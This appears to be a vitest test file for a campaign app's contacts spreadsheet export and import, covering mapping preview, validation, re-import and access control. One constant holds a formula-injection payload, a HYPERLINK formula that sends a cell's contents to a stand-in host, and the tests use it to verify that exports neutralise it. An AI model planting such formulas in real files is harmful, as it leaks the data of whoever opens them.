/**
 * Contacts of the outreach board as a spreadsheet: export (CSV and XLSX, formula-injection safe)
 * and import with a column-mapping preview (English and Russian headers), all or nothing, with
 * row numbers; a re-import adds nothing; another organisation's campaign answers 404.
 */
import ExcelJS from 'exceljs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createTestServer, ENGINES, type TestServer } from '../db-helpers.js';
import { createOrganisation, inviteAndAccept, OTHER_ADMIN, VIEWER } from '../factories.js';
import { ORIGIN, setUpInstance, type TestClient } from '../http-client.js';

const HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

async function xlsxBytes(rows: (string | null)[][]): Promise<Uint8Array> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('Contacts');
  for (const row of rows) sheet.addRow(row);
  return new Uint8Array(await book.xlsx.writeBuffer());
}

describe.each(ENGINES)('contacts import and export (%s)', (engine) => {
  let server: TestServer;
  let admin: TestClient;
  let campaignId: string;
  const base = () => `/api/campaigns/${campaignId}`;
  const board = async () => (await admin.get(`${base()}/outreach`)).body;

  /** POST a file as the raw body (TestClient sends JSON only), with the client's session cookie. */
  async function upload(client: TestClient, path: string, body: Uint8Array | string) {
    const cookies = (client as unknown as { cookies: Map<string, string> }).cookies;
    const response = await server.app.request(`${ORIGIN}${path}`, {
      method: 'POST',
      headers: {
        origin: ORIGIN,
        host: 'localhost:8080',
        'content-type': 'application/octet-stream',
        cookie: [...cookies].map(([k, v]) => `${k}=${v}`).join('; '),
      },
      body: typeof body === 'string' ? body : new Blob([body.slice()]),
    });
    const text = await response.text();
    return { status: response.status, body: text ? JSON.parse(text) : null };
  }

  beforeEach(async () => {
    server = await createTestServer(engine);
    admin = await setUpInstance(server);
    campaignId = (await admin.post('/api/campaigns', { stateIso3: 'KAZ', reviewDate: '2027-01-20' })).body.id;
    expect((await admin.post(`${base()}/targets`, { iso3: ['DEU', 'FRA'] })).status).toBe(200);
  });
  afterEach(async () => server.dispose());

  async function seedContacts() {
    const { postId } = (
      await admin.post(`${base()}/outreach/DEU/embassy/posts`, { title: 'UPR focal point', person: { name: 'Anna Schmidt', email: 'anna@diplo.de', note: HOSTILE_NOTE, since: '2025-01-10' } })
    ).body;
    await admin.post(`${base()}/posts/${postId}/people`, { name: 'Jonas Weber', phone: '+49 30 1234', since: '2026-11-01' });
    await admin.post(`${base()}/outreach/FRA/mission/posts`, { title: 'Human rights officer', person: { name: 'Claire Martin' } });
  }

  it('exports one row per person, current and former, with formula-looking cells neutralised in CSV', async () => {
    await seedContacts();
    const response = await admin.get(`${base()}/contacts.csv`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    expect(response.headers.get('content-disposition')).toMatch(/attachment; filename="contacts-kaz-\d{4}-\d{2}-\d{2}\.csv"/);
    const lines = response.text.replace(/^\uFEFF/, '').trim().split('\r\n');
    expect(lines[0]).toBe('State (ISO3),State name,Channel,Post,Name,E-mail,Phone,Note,Since,Until,Channel status');
    expect(lines).toHaveLength(4);
    // By State name (France, Germany), the current holder before the former ones.
    expect(lines[1]).toBe('FRA,France,Geneva mission,Human rights officer,Claire Martin,,,,,,Contact found');
    // A phone starting with "+" would be read as a formula too.
    expect(lines[2]).toBe("DEU,Germany,Embassy,UPR focal point,Jonas Weber,,'+49 30 1234,,2026-11-01,,Contact found");
    expect(lines[3]).toBe(`DEU,Germany,Embassy,UPR focal point,Anna Schmidt,anna@diplo.de,,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",2025-01-10,2026-11-01,Contact found`);
  });

  it('exports XLSX with text cells, the hostile note neutralised and never a formula', async () => {
    await seedContacts();
    const response = await server.app.request(`${ORIGIN}${base()}/contacts.xlsx`, {
      headers: { cookie: [...(admin as unknown as { cookies: Map<string, string> }).cookies].map(([k, v]) => `${k}=${v}`).join('; ') },
    });
    expect(response.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.rowCount).toBe(4);
    expect(sheet.getRow(1).getCell(5).value).toBe('Name');
    const note = sheet.getRow(4).getCell(8);
    expect(note.type).toBe(ExcelJS.ValueType.String);
    expect(note.value).toBe(`'${HOSTILE_NOTE}`);
    for (let r = 1; r <= sheet.rowCount; r++) sheet.getRow(r).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
  });

  it('previews a Russian semicolon CSV: columns, suggested mapping, sample rows and row count', async () => {
    const csv = 'Страна;Канал;Должность;ФИО;E-mail;Телефон\nГермания;Посольство;Посол;Ханс Мюллер;hans@example.de;\nБразилия;Миссия в Женеве;Ответственный за УПО;Ана Силва;;+41 22 000\n';
    const preview = await upload(admin, `${base()}/contacts/preview?fileName=contacts.csv`, csv);
    expect(preview.status).toBe(200);
    expect(preview.body).toMatchObject({
      fileName: 'contacts.csv',
      columns: ['Страна', 'Канал', 'Должность', 'ФИО', 'E-mail', 'Телефон'],
      suggestedMapping: { state: 0, channel: 1, post: 2, name: 3, email: 4, phone: 5, note: null, since: null, until: null },
      rowCount: 2,
    });
    expect(preview.body.sampleRows[1]).toEqual(['Бразилия', 'Миссия в Женеве', 'Ответственный за УПО', 'Ана Силва', '', '+41 22 000']);
  });

  it('imports all rows, adds missing States to the targets, and a second import adds nothing', async () => {
    const csv = 'Страна;Канал;Должность;ФИО;E-mail\nГермания;посольство;Посол;Ханс Мюллер;hans@example.de\nBRA;mission in Geneva;UPR focal point;Ana Silva;\nBrazil;embassy;;Pedro Costa;\n';
    const mapping = 'state:0,channel:1,post:2,name:3,email:4';
    const first = await upload(admin, `${base()}/contacts/import?fileName=kontakty.csv&mapping=${mapping}`, csv);
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({ rowsRead: 3, peopleAdded: 3, alreadyPresent: 0, postsCreated: 3, targetsAdded: [{ iso3: 'BRA', name: 'Brazil' }] });
    const b = await board();
    const bra = b.targets.find((t: { iso3: string }) => t.iso3 === 'BRA');
    expect(bra.channels.mission).toMatchObject({ status: 'contact-found', posts: [{ title: 'UPR focal point', current: { name: 'Ana Silva' } }] });
    expect(bra.channels.embassy.posts[0]).toMatchObject({ title: 'Contact', current: { name: 'Pedro Costa' } });
    const deu = b.targets.find((t: { iso3: string }) => t.iso3 === 'DEU');
    expect(deu.channels.embassy.posts[0].current).toMatchObject({ name: 'Ханс Мюллер', email: 'hans@example.de' });

    const again = await upload(admin, `${base()}/contacts/import?fileName=kontakty.csv&mapping=${mapping}`, csv);
    expect(again.body).toMatchObject({ peopleAdded: 0, alreadyPresent: 3, postsCreated: 0, targetsAdded: [] });
    const audit = (await admin.get('/api/audit?limit=10')).body.filter((e: { action: string }) => e.action === 'contacts.import');
    expect(audit).toHaveLength(2);
    expect(audit[1].changes).toMatchObject({ peopleAdded: 3, targetsAdded: ['BRA'] });
  });

  it('refuses the whole file when any row is wrong, naming each row, and writes nothing', async () => {
    const csv = [
      'State,Channel,Post,Name,E-mail,Since',
      'Germany,Embassy,Ambassador,Hans Müller,hans@example.de,',
      'Atlantis,Embassy,Ambassador,Nobody,,',
      'France,Consulate,Consul,Jean Dupont,not-an-email,',
      'Kazakhstan,Mission,,Asel,,',
      'Norway,Mission,,,,31.02.2026',
    ].join('\n');
    const r = await upload(admin, `${base()}/contacts/import?fileName=bad.csv&mapping=state:0,channel:1,post:2,name:3,email:4,since:5`, csv);
    expect(r.status).toBe(400);
    expect(r.body.error.details.badRows).toBe(4);
    expect(r.body.error.details.rowErrors).toEqual([
      { row: 3, field: 'state', problem: 'unknown-state', value: 'Atlantis' },
      { row: 4, field: 'channel', problem: 'unknown-channel', value: 'Consulate' },
      { row: 4, field: 'email', problem: 'email', value: 'not-an-email' },
      { row: 5, field: 'state', problem: 'state-under-review', value: 'Kazakhstan' },
      { row: 6, field: 'name', problem: 'required', value: '' },
      { row: 6, field: 'since', problem: 'invalid-date', value: '31.02.2026' },
    ]);
    const b = await board();
    expect(b.targets.map((t: { iso3: string }) => t.iso3).sort()).toEqual(['DEU', 'FRA']);
    expect(b.targets.every((t: any) => t.channels.embassy.posts.length === 0 && t.channels.mission.posts.length === 0)).toBe(true);
    const missing = await upload(admin, `${base()}/contacts/import?fileName=bad.csv&mapping=state:0,post:2`, csv);
    expect(missing.status).toBe(400);
    expect(missing.body.error.details.issues.map((i: { path: string }) => i.path).sort()).toEqual(['channel', 'name']);
  });

  it('reads its own XLSX export back (formula apostrophe removed) and re-importing it adds nothing', async () => {
    await seedContacts();
    const cookie = [...(admin as unknown as { cookies: Map<string, string> }).cookies].map(([k, v]) => `${k}=${v}`).join('; ');
    const exported = new Uint8Array(await (await server.app.request(`${ORIGIN}${base()}/contacts.xlsx`, { headers: { cookie } })).arrayBuffer());
    const preview = await upload(admin, `${base()}/contacts/preview?fileName=export.xlsx`, exported);
    expect(preview.body.suggestedMapping).toEqual({ state: 0, channel: 2, post: 3, name: 4, email: 5, phone: 6, note: 7, since: 8, until: 9 });
    const mapping = 'state:0,channel:2,post:3,name:4,email:5,phone:6,note:7,since:8,until:9';
    const again = await upload(admin, `${base()}/contacts/import?fileName=export.xlsx&mapping=${mapping}`, exported);
    expect(again.body).toMatchObject({ rowsRead: 3, peopleAdded: 0, alreadyPresent: 3 });

    // Into a fresh campaign: the former holder stays former, the note comes back as written.
    const other = (await admin.post('/api/campaigns', { stateIso3: 'UZB', reviewDate: '2027-01-20' })).body.id;
    const copied = await upload(admin, `/api/campaigns/${other}/contacts/import?fileName=export.xlsx&mapping=${mapping}`, exported);
    expect(copied.body).toMatchObject({ peopleAdded: 3, postsCreated: 2, targetsAdded: [{ iso3: 'FRA', name: 'France' }, { iso3: 'DEU', name: 'Germany' }] });
    const deu = (await admin.get(`/api/campaigns/${other}/outreach`)).body.targets.find((t: { iso3: string }) => t.iso3 === 'DEU');
    expect(deu.channels.embassy.posts[0].current).toMatchObject({ name: 'Jonas Weber', phone: '+49 30 1234', since: '2026-11-01' });
    expect(deu.channels.embassy.posts[0].previous).toEqual([expect.objectContaining({ name: 'Anna Schmidt', note: HOSTILE_NOTE, until: '2026-11-01' })]);
  });

  it('imports a workbook with English headers', async () => {
    const bytes = await xlsxBytes([
      ['Country', 'Type', 'Position', 'Full name', 'Email'],
      ['France', 'Permanent Mission', 'Political officer', 'Luc Bernard', 'luc@example.fr'],
    ]);
    const preview = await upload(admin, `${base()}/contacts/preview?fileName=list.xlsx`, bytes);
    expect(preview.body.suggestedMapping).toMatchObject({ state: 0, channel: 1, post: 2, name: 3, email: 4 });
    const done = await upload(admin, `${base()}/contacts/import?fileName=list.xlsx&mapping=state:0,channel:1,post:2,name:3,email:4`, bytes);
    expect(done.body).toMatchObject({ peopleAdded: 1, targetsAdded: [] });
  });

  it('answers 404 to another organisation exactly like a missing campaign, and 403 to a viewer', async () => {
    await seedContacts();
    const csv = 'State,Channel,Name\nGermany,Embassy,Intruder\n';
    const other = (await createOrganisation(server, 'Other', OTHER_ADMIN)).client;
    for (const path of [`${base()}/contacts/preview?fileName=a.csv`, `${base()}/contacts/import?fileName=a.csv&mapping=state:0,channel:1,name:2`]) {
      expect((await upload(other, path, csv)).status).toBe(404);
      expect((await upload(other, path.replace(campaignId, 'no-such-campaign'), csv)).status).toBe(404);
    }
    const exported = await other.get(`${base()}/contacts.csv`);
    expect(exported.status).toBe(404);
    expect(exported.text).not.toContain('Anna');
    const viewer = (await inviteAndAccept(server, admin, VIEWER, 'viewer')).client;
    expect((await viewer.get(`${base()}/contacts.csv`)).status).toBe(200);
    expect((await upload(viewer, `${base()}/contacts/import?fileName=a.csv&mapping=state:0,channel:1,name:2`, csv)).status).toBe(403);
  });
});
